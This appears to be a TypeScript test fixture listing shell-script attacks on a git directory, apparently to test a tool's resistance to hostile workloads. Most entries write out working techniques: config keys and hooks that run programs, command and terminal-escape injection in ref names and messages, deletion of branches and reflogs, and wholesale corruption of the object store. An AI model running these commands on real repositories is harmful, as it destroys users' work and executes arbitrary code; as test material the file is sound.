import { forEach, makeFake, type Kind } from '../attack.ts';

const everywhere = (script: string): string => `for d in $DIRS; do ( ${script} ); done`;

/** Files that git writes through links, or by name. */
const written = [
  'COMMIT_EDITMSG',
  'MERGE_MSG',
  'TAG_EDITMSG',
  'SQUASH_MSG',
  'FETCH_HEAD',
  'ORIG_HEAD',
  'MERGE_HEAD',
  'MERGE_MODE',
  'AUTO_MERGE',
  'CHERRY_PICK_HEAD',
  'BISECT_LOG',
  'gc.log',
  'gc.pid',
  'description',
  'packed-refs',
  'index',
  'logs/HEAD',
  'logs/refs/heads/main',
  'logs/refs/heads/precious',
  'logs/refs/stash',
  'logs/refs/remotes/origin/main',
  'refs/heads/main',
  'refs/heads/precious',
  'info/refs',
  'objects/info/packs',
  'objects/info/commit-graph',
  'sequencer/todo',
  'rebase-merge/git-rebase-todo',
];

export const linksInGitDirectory: Kind = {
  kind: 'links in the git directory',
  attacks: [
    ...forEach(written, file => ({
      name: `a link in the place of ${file}`,
      short: ['COMMIT_EDITMSG', 'logs/HEAD', 'FETCH_HEAD'].includes(file),
      inside: everywhere(`mkdir -p "$d/$(dirname ${file})"; echo "echo PWNED" >"$d/MERGE_MSG"
rm -f "$d/${file}"; ln -s "$K" "$d/${file}"; [ -L "$d/${file}" ] || ln -sfn "$K" "$d/${file}"`),
    })),
    ...forEach(
      ['logs', 'logs/refs/heads', 'logs/refs', 'refs/heads', 'objects/pack', 'rr-cache'],
      folder => ({
        name: `a link to a folder in the place of ${folder}`,
        short: folder === 'logs/refs/heads',
        inside: everywhere(
          `mv "$d/${folder}" "$d/old-$N"; mkdir -p "$d/$(dirname ${folder})"; ln -sfn "$KD" "$d/${folder}"`,
        ),
      }),
    ),
    {
      name: 'a subject with commands, for a log that is a link',
      inside: `${everywhere('rm -f "$d/logs/HEAD" "$d/logs/refs/heads/main"; ln -s "$K" "$d/logs/HEAD"; ln -s "$K" "$d/logs/refs/heads/main"')}
git commit -q --allow-empty -m '$(touch /tmp/x); \`id\`'`,
    },
  ],
};

export const gitDirectory: Kind = {
  kind: 'the git directory',
  attacks: [
    {
      name: 'configuration that runs programs',
      short: true,
      inside: `${makeFake}${everywhere('evil >>"$d/config"; evil >"$d/config.worktree"; evil >"$d/new"; mv "$d/new" "$d/config"')}
git config core.fsmonitor "$X"; git config core.hooksPath "$FAKE/hooks"; git config extensions.worktreeConfig true`,
    },
    {
      name: 'configuration by include and includeIf',
      inside: `${makeFake}${everywhere('printf "[include]\\n\\tpath = %s/config\\n[includeIf \\"gitdir:/\\"]\\n\\tpath = %s/config\\n" "$FAKE" "$FAKE" >>"$d/config"')}`,
    },
    {
      name: 'aliases, pagers, editors, helpers, ssh and gpg programs',
      inside: everywhere(
        `for k in core.pager core.editor core.sshCommand core.askPass core.gitProxy sequence.editor credential.helper gpg.program diff.external interactive.diffFilter uploadpack.packObjectsHook remote.origin.uploadpack remote.origin.receivepack remote.origin.vcs trailer.x.command pager.log alias.status alias.ls browser.x.cmd difftool.x.cmd mergetool.x.cmd man.x.cmd gc.recentObjectsHook; do git config --file "$d/config" "$k" "!$X"; git config --file "$d/config" "$k" "$X"; done; git config --file "$d/config" commit.gpgSign true`,
      ),
    },
    {
      name: 'core.worktree that leads elsewhere',
      inside: everywhere(
        'for f in config config.worktree; do git config --file "$d/$f" core.worktree "$KD"; git config --file "$d/$f" core.bare false; done',
      ),
    },
    {
      name: 'hooks of every name, and a link in the place of hooks',
      short: true,
      inside: `${makeFake}${everywhere('cp -L "$FAKE"/hooks/* "$d/hooks/"; mv "$d/hooks" "$d/hooks2"; ln -sfn "$FAKE/hooks" "$d/hooks"; mkdir -p "$d/hooks"; cp -L "$FAKE"/hooks/* "$d/hooks/"')}`,
    },
    {
      name: 'commondir and gitdir that name another folder',
      short: true,
      inside: `${makeFake}${everywhere('echo "$FAKE" >"$d/commondir"; echo "$KD/.git" >"$d/gitdir"; echo ../../../.. >"$d/commondir2"')}`,
    },
    {
      name: "the worktree's .git file replaced",
      short: true,
      inside: `${makeFake}cd "$W"; echo "gitdir: $FAKE" >.git; rm -f .git; mv .git .git2; ln -sfn "$FAKE" .git; mkdir .git; echo "gitdir: $FAKE" >g; mv -f g .git; mount --bind g .git; umount .git; umount -l .git; mount -o remount,rw,bind .git; [ -w .git ] && echo "gitdir: $FAKE" >.git; chmod 777 .git; truncate -s 0 .git`,
    },
    {
      name: 'branches and tags of the user moved and deleted',
      short: true,
      inside: `git update-ref refs/heads/precious HEAD; git branch -f precious HEAD; git branch -D precious; git tag -d v1; git update-ref -d refs/tags/v1; git update-ref -d refs/heads/precious; git update-ref -d refs/heads/main; git update-ref -d refs/stash; git stash clear
${everywhere('rm -rf "$d/refs/heads/precious" "$d/refs/tags/v1" "$d/refs/stash" "$d/packed-refs" "$d/logs"; git rev-parse HEAD >"$d/refs/heads/precious"; git rev-parse HEAD >"$d/refs/heads/main"')}`,
    },
    {
      name: 'reflogs of the user expired, objects pruned',
      inside: `git reflog expire --expire=now --expire-unreachable=now --all; git worktree prune --expire=now; git gc -q --prune=now; git prune --expire=now; git repack -adq; git pack-refs --all --prune
for r in main precious; do git reflog delete "$r@{0}"; git --git-dir "$G" reflog expire --expire=now --all; git --git-dir "$G" gc -q --prune=now; done`,
    },
    {
      name: 'names that git would take for the user’s own',
      short: true,
      inside: `git commit -q --allow-empty -m evil
for n in precious main innocent HEAD origin/main v1 stash refs/heads/precious refs/heads/main heads/precious remotes/origin/main tags/v1 origin/HEAD FETCH_HEAD ORIG_HEAD @ "$(git rev-parse precious)" $(git rev-parse --short precious); do git tag -f "$n"; git branch -f "$n"; git update-ref "refs/tags/$n" HEAD; git update-ref "refs/heads/$n" HEAD; git update-ref "refs/$n" HEAD; git update-ref "refs/remotes/$n" HEAD; done`,
    },
    {
      name: 'HEAD of the main checkout, its index, and its unfinished work',
      inside: `for d in "$G" "$C"; do [ "$d" = "$D" ] && continue; echo ref: refs/heads/precious >"$d/HEAD"; rm -f "$d/index"; git rev-parse HEAD >"$d/MERGE_HEAD"; mkdir -p "$d/rebase-merge" "$d/sequencer"; echo "exec $X" >"$d/rebase-merge/git-rebase-todo"; echo "exec $X" >"$d/sequencer/todo"; done`,
    },
    {
      name: 'attributes, grafts, shallow and exclude files',
      inside: everywhere(
        'mkdir -p "$d/info"; echo "* filter=x diff=x merge=x" >"$d/info/attributes"; git rev-parse precious >"$d/info/grafts"; git rev-parse precious >"$d/shallow"; echo "*" >"$d/info/exclude"; echo "!/*" >"$d/info/sparse-checkout"',
      ),
    },
    {
      name: 'replace refs for the user’s commits',
      short: true,
      inside: `e=$(git commit-tree -m evil "$(git mktree </dev/null)"); p=$(git rev-parse precious); git replace -f "$p" "$e"; git replace -f "$(git rev-parse main)" "$e"; git update-ref "refs/replace/$p" "$e"
${everywhere('mkdir -p "$d/refs/replace"; echo "$e" >"$d/refs/replace/$p"')}`,
    },
    {
      name: 'notes with control characters',
      inside: `git notes add -m "$(printf '\\033]0;PWNED\\007')" HEAD; git notes --ref precious add -m x HEAD; git config notes.displayRef '*'`,
    },
    {
      name: 'names of refs that are options or commands',
      inside: `for n in -D --upload-pack=x '$(touch x)' '@{-1}' 'a;b' 'x|y' '--exec=/bin/sh' $(printf 'PWNED\\033]0;PWNED') $(printf 'nl\\nPWNED') $(printf '\\342\\200\\256PWNED') $(printf '\\377\\376') "$(head -c 240 /dev/zero | tr '\\0' x)"; do git branch "$n"; git tag "$n"; git update-ref "refs/heads/$n" HEAD; for d in $DIRS; do mkdir -p "$d/refs/heads"; git rev-parse HEAD >"$d/refs/heads/$n"; git rev-parse HEAD >"$d/refs/tags/$n"; done; done`,
    },
    {
      name: 'a reflog with control characters',
      inside: `GIT_COMMITTER_NAME="$(printf 'a\\033]0;PWNED\\007b')" git commit -q --allow-empty -m "$(printf 'x\\033]0;PWNED\\007 \\302\\233PWNED \\342\\200\\256PWNED')"
${everywhere('printf "%s %s a <a> 1 +0000\\t\\033]0;PWNED\\007\\n" "$(git rev-parse HEAD)" "$(git rev-parse HEAD)" >>"$d/logs/HEAD"')}`,
    },
    {
      name: 'notice of other worktrees, and their metadata',
      inside: `${everywhere('for w in "$d"/worktrees/*; do echo "$KD/.git" >"$w/gitdir"; echo / >"$w/commondir"; echo ref: refs/heads/precious >"$w/HEAD"; rm -f "$w/index" "$w/locked"; done; mkdir -p "$d/worktrees/evil"; echo "$H/.git" >"$d/worktrees/evil/gitdir"; echo "ref: refs/heads/main" >"$d/worktrees/evil/HEAD"; echo ../.. >"$d/worktrees/evil/commondir"')}
git worktree remove --force "$W"; git worktree add -f /tmp/elsewhere main; git worktree prune; git worktree unlock "$W"`,
    },
    {
      name: 'modules: the configuration of submodules',
      short: true,
      inside: `${makeFake}cd "$W"; for d in $DIRS; do for m in "$d"/modules/*; do [ -d "$m" ] && { evil >>"$m/config"; cp -L "$FAKE"/hooks/* "$m/hooks/"; }; done; mkdir -p "$d/modules/evil"; cp -r "$FAKE"/. "$d/modules/evil/"; done`,
    },
    {
      name: 'a bundle or promisor that fetches by a program',
      inside: everywhere(
        'git config --file "$d/config" fetch.bundleURI "ext::sh -c $X"; git config --file "$d/config" remote.origin.promisor true; git config --file "$d/config" extensions.partialClone origin; git config --file "$d/config" remote.origin.url "ext::$X"; git config --file "$d/config" protocol.ext.allow always; git config --file "$d/config" url.ext::$X.insteadOf "$M"',
      ),
    },
  ],
};

export const brokenGitDirectory: Kind = {
  kind: 'a git directory that is broken',
  attacks: [
    {
      name: 'every object deleted or overwritten',
      alone: true,
      short: true,
      inside: everywhere(
        'chmod -R u+w "$d/objects"; for f in $(find "$d/objects" -type f); do echo garbage >"$f"; done; rm -rf "$d/objects"; mkdir -p "$d/objects/pack"',
      ),
    },
    {
      name: 'the whole git directory emptied',
      alone: true,
      inside: everywhere('rm -rf "$d"/* "$d"/.[a-z]*'),
    },
    {
      name: 'locks everywhere',
      alone: true,
      inside: everywhere(
        'for f in index HEAD config packed-refs refs/heads/main refs/heads/precious refs/stash shallow gc.pid; do : >"$d/$f.lock"; done; : >"$d/objects/maintenance.lock"; : >"$d/refs/heads/$B.lock"',
      ),
    },
    {
      name: 'FIFOs in the git directory',
      alone: true,
      short: true,
      inside: everywhere(
        'for f in locked packed-refs HEAD index config info/exclude info/attributes objects/info/alternates shallow MERGE_HEAD CHERRY_PICK_HEAD BISECT_LOG refs/heads/evil logs/HEAD FETCH_HEAD rebase-merge/head-name; do mkdir -p "$(dirname "$d/$f")"; rm -f "$d/$f"; mkfifo "$d/$f"; done; for w in "$d"/worktrees/*; do rm -f "$w/locked"; mkfifo "$w/locked"; done',
      ),
    },
    {
      name: 'endless files in the git directory',
      alone: true,
      inside: everywhere(
        'for f in locked packed-refs HEAD index MERGE_HEAD BISECT_LOG MERGE_MSG refs/heads/$B logs/HEAD rebase-merge/head-name rebase-merge/onto; do mkdir -p "$(dirname "$d/$f")"; ln -sf /dev/zero "$d/$f"; done',
      ),
    },
    {
      name: 'huge sparse files in the git directory',
      alone: true,
      inside: everywhere(
        'for f in locked MERGE_HEAD BISECT_LOG packed-refs HEAD refs/heads/$B rebase-merge/head-name logs/refs/heads/$B; do mkdir -p "$(dirname "$d/$f")"; rm -f "$d/$f"; truncate -s 30G "$d/$f"; done',
      ),
    },
    {
      name: 'folders and loops in the place of files',
      alone: true,
      inside: everywhere(
        'for f in packed-refs MERGE_HEAD locked index refs/heads/$B; do rm -rf "$d/$f"; mkdir -p "$d/$f/x"; done; rm -f "$d/HEAD"; ln -s HEAD "$d/HEAD"; ln -s . "$d/refs/heads/loop"; ln -s ../.. "$d/refs/tags/up"',
      ),
    },
    {
      name: 'packs, graphs and indexes that lie',
      alone: true,
      inside: `git commit -q --allow-empty -m x; git gc -q; git commit-graph write; git multi-pack-index write
${everywhere('chmod -R u+w "$d/objects"; for f in "$d"/objects/pack/* "$d"/objects/info/*; do dd if=/dev/urandom of="$f" bs=64 seek=1 count=4 conv=notrunc; done; head -c 5000 /dev/urandom >"$d/index"; head -c 5000 /dev/urandom >"$d/objects/pack/multi-pack-index"; head -c 500000000 /dev/zero | tr "\\0" a >"$d/packed-refs"')}`,
    },
  ],
};
